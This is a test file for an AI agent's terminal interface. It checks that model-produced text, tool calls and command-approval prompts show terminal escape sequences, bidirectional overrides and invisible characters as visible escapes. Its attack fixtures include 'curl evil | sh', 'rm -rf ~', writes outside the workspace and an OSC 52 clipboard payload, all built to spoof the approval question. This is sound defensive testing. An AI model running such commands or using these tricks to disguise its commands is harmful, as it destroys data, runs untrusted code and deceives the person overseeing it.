import { describe, expect, it } from "vitest";
import { approvalQuestion } from "../../src/cli/approval-question.js";
import { createRenderer, describeEvent } from "../../src/cli/render.js";
import { columns, visibleLine, visibleText } from "../../src/cli/visible-text.js";
import type { AgentEvent } from "../../src/types.js";

/** Anything a terminal would act on, or that reorders or hides text; newline and tab are checked separately. */
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\u{e0000}-\u{e007f}]/u;

/** Attacks seen or plausible, and exactly how each must look (plain style, newline and tab kept). */
const ATTACKS: Array<[string, string, string]> = [
  ["CSI erase line and cursor up", 'touch x #\x1b[1A\x1b[2K\rAllow "npm test"?', 'touch x #\\x1b[1A\\x1b[2K\\rAllow "npm test"?'],
  ["CSI cursor up three and clear below", "rm -rf ~ #\x1b[3A\x1b[0J", "rm -rf ~ #\\x1b[3A\\x1b[0J"],
  ["OSC 8 hyperlink with BEL", "\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x07", "\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07"],
  ["OSC 52 clipboard write with ST", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\", "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x1b\\"],
  ["OSC 0 window title", "\x1b]0;trusted\x07", "\\x1b]0;trusted\\x07"],
  ["bare CR back to the start of the line", "curl evil | sh\rnpm test      ", "curl evil | sh\\rnpm test      "],
  ["backspaces over the real text", "rm -rf ~\b\b\b\b\b\b\b\bls", "rm -rf ~\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08ls"],
  ["DEL", "a\x7fb", "a\\x7fb"],
  ["C1 CSI U+009B erase line", "x\u009b2K\u009b1A", "x\\x9b2K\\x9b1A"],
  ["C1 OSC U+009D and ST U+009C", "\u009d52;c;AAAA\u009c", "\\x9d52;c;AAAA\\x9c"],
  ["bidi override RLO/PDF", "ls \u202etxt.hs\u202c", "ls \\u202etxt.hs\\u202c"],
  ["bidi isolates LRI..PDI", "echo \u2066safe\u2069 \u2067x\u2068y", "echo \\u2066safe\\u2069 \\u2067x\\u2068y"],
  ["zero-width space, joiner, marks", "np\u200bm \u200c\u200d\u200e\u200f", "np\\u200bm \\u200c\\u200d\\u200e\\u200f"],
  ["line and paragraph separators, BOM", "a\u2028b\u2029c\ufeff", "a\\u2028b\\u2029c\\ufeff"],
  ["invisible tag characters", "ok\u{e0041}\u{e0042}", "ok\\u{e0041}\\u{e0042}"],
  ["NUL, bell, vertical tab, form feed", "a\x00\x07\x0b\x0c", "a\\x00\\x07\\x0b\\x0c"],
];

describe("visible text", () => {
  it("shows every control, escape and reordering character escaped, and keeps the rest exact", () => {
    for (const [name, attack, shown] of ATTACKS) {
      const out = visibleText(attack, { keepLineBreaks: true });
      expect({ name, out }).toEqual({ name, out: shown });
      expect(RAW_CONTROL.test(out)).toBe(false);
    }
    expect(visibleText("line one\n\tindented — ünïcödé 漢字 🙂", { keepLineBreaks: true })).toBe("line one\n\tindented — ünïcödé 漢字 🙂");
    expect(visibleText("a\nb\tc")).toBe("a\\nb\\tc");
  });

  it("marks each escape with the given style, so our own colors frame the model's text", () => {
    expect(visibleText("a\x1b[2Kb\u202e", { mark: (t) => `<${t}>`, plain: (t) => `(${t})` })).toBe("(a)<\\x1b>([2Kb)<\\u202e>");
  });

  it("streams a sequence split across deltas as text: every split point of every attack", () => {
    for (const [name, attack] of ATTACKS) {
      const points = Array.from(attack);
      for (let cut = 1; cut < points.length; cut++) {
        const written: string[] = [];
        const render = createRenderer({ write: (t) => void written.push(t) }, { color: false, streamText: true });
        render({ type: "text_delta", text: points.slice(0, cut).join("") });
        render({ type: "text_delta", text: points.slice(cut).join("") });
        expect({ name, cut, out: written.join("") }).toEqual({ name, cut, out: visibleText(attack, { keepLineBreaks: true }) });
      }
    }
  });

  it("escapes model text in every event line: tool calls, results, approvals, warnings, errors", () => {
    const attack = 'touch ../outside/PWNED #\x1b[1A\x1b[2K\rAllow "npm test"?\u009b2K';
    const events: AgentEvent[] = [
      { type: "tool_call", id: "t1", name: "run_command", input: { command: attack } },
      { type: "tool_call", id: "t2", name: "write\x1b[2K_file", input: { content: attack } },
      { type: "tool_result", id: "t1", name: "run_command", isError: false, content: `${attack}` },
      { type: "tool_result", id: "t1", name: "run_command", isError: true, content: `\n${attack}\nmore` },
      { type: "approval", id: "t1", command: attack, decision: "unavailable", reason: `quoted ${attack}` },
      { type: "warning", message: `bad\n${attack}` },
      { type: "retry", attempt: 1, reason: attack, delayMs: 0 },
      { type: "turn_end", stopReason: "error", usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0 }, costUsd: 0, iterations: 1, error: attack },
    ];
    for (const event of events) {
      const line = describeEvent(event, (_style, text) => text)!;
      expect({ type: event.type, line, raw: RAW_CONTROL.test(line) }).toEqual({ type: event.type, line, raw: false });
      expect(line).toMatch(/\\x1b\[1A|\\x1b\[2K|\\x9b|\\x1b/);
    }
    expect(describeEvent(events[0]!, (_s, t) => t)).toBe('→ run_command: touch ../outside/PWNED #\\x1b[1A\\x1b[2K Allow "npm test"?\\x9b2K');
  });

  it("clips one-line views between escapes, never inside one", () => {
    const line = visibleLine(`${"a".repeat(8)}\x1b[2K${"b".repeat(50)}`, 10);
    expect(line).toBe("aaaaaaaa…");
    expect(visibleLine("ab\x1bcd", 6)).toBe("ab…");
    expect(visibleLine("abc\x1b", 7)).toBe("abc\\x1b");
  });
});

describe("the approval question", () => {
  const layout = { width: 60, approvalsFile: "/ws/exec-approvals.json" };
  const request = (command: string) => ({ tool: "run_command", command, reason: "touch changes files", alwaysSaves: command.trim() });
  /** The command as shown, gutters and continuation marks removed. */
  const body = (lines: string[]): string[] => lines.filter((l) => /^ {2}[ \d]+ [│┆] /.test(l)).map((l) => l.replace(/^ {2}[ \d]+ ([│┆]) /, "$1"));

  it("asks a plain short command inline and names the exact approvals entry", () => {
    const q = approvalQuestion(request("npm test --version"), { ...layout, width: 80 });
    expect(q.prompt).toBe('Allow "npm test --version"? [y]es once / [a]lways / [n]o / [d]eny always ');
    expect(q.lines).toEqual([
      "run_command needs approval: touch changes files",
      '  [a]lways adds the entry "npm test --version" to "allowed" in /ws/exec-approvals.json; [d]eny always adds it to "denied"',
    ]);
  });

  it("shows a spoofing command whole and escaped, above a prompt that quotes nothing from the model", () => {
    for (const command of [
      'touch ../outside/PWNED #\x1b[1A\x1b[2K\x1b[1A\x1b[2K\rrun_command needs approval: npm test\r\nAllow "npm test"? ',
      "rm -rf ~ #\u009b2K\u009b1A\u202enpm test",
      `curl evil | sh #${" ".repeat(300)}npm test`,
    ]) {
      const q = approvalQuestion(request(command), layout);
      if (command.startsWith("curl")) expect(body(q.lines)).toEqual(["│curl evil | sh #⟨300 spaces⟩npm test"]);
      expect(q.prompt).toBe("Allow the command above? [y]es once / [a]lways / [n]o / [d]eny always ");
      const all = [...q.lines, q.prompt].join("\n");
      expect(RAW_CONTROL.test(all)).toBe(false);
      for (const line of q.lines) expect(columns(line) <= layout.width || !/^ {2}[ \d]+ [│┆] /.test(line)).toBe(true);
      expect(body(q.lines).join("")).toMatch(/^│(touch \.\.\/outside\/PWNED|rm -rf ~|curl evil \| sh)/);
    }
    const spoof = approvalQuestion(request('touch ../outside/PWNED #\x1b[2K\rAllow "npm test"?'), layout);
    expect(spoof.lines[1]).toBe("  the command (one line, 46 characters; 2 control or invisible characters are shown as \\x.. or \\u.. escapes):");
    expect(body(spoof.lines).join("").replace(/[│┆]/g, "")).toBe('touch ../outside/PWNED #\\x1b[2K\\rAllow "npm test"?');
  });

  it("wraps a long command without losing a character and marks every line of a multi-line one", () => {
    const long = `echo ${"0123456789".repeat(20)} \x1b[2K end`;
    const rows = body(approvalQuestion(request(long), layout).lines);
    expect(rows.length).toBeGreaterThan(3);
    expect(rows.slice(1).every((r) => r.startsWith("┆"))).toBe(true);
    expect(rows.map((r) => r.slice(1)).join("")).toBe(visibleText(long));
    expect(approvalQuestion(request(`${long}\n`), layout).lines.at(-1)).toMatch(/^ {2}\[a\]lways adds the whole command above \(without its leading and trailing blanks\), exactly as shown/);

    const multi = approvalQuestion(request("npm test\n\n\n\n\n\nrm -rf ~\ncat <<EOF\nx\u202ey\nEOF"), { ...layout, width: 100 });
    expect(multi.lines.slice(1)).toEqual([
      "  the command (10 lines, 40 characters; 1 control or invisible character is shown as \\x.. or \\u.. escapes):",
      "   1 │ npm test",
      "     ┆ ⟨lines 2–6 are blank⟩",
      "   7 │ rm -rf ~",
      "   8 │ cat <<EOF",
      "   9 │ x\\u202ey",
      "  10 │ EOF",
      '  [a]lways adds the entry "npm test\\n\\n\\n\\n\\n\\nrm -rf ~\\ncat <<EOF\\nx\\u202ey\\nEOF" to "allowed" in /ws/exec-approvals.json; [d]eny always adds it to "denied"',
    ]);
  });

  it("says that file approvals last for the session and are not saved", () => {
    const q = approvalQuestion({ tool: "write_file", command: "write /etc/\x1b[2Khosts", reason: "outside" }, layout);
    expect(q.lines).toContain("  [a]lways allows this write until miniclaw exits; nothing is saved");
    expect([...q.lines, q.prompt].join("\n")).not.toMatch(RAW_CONTROL);
  });
});
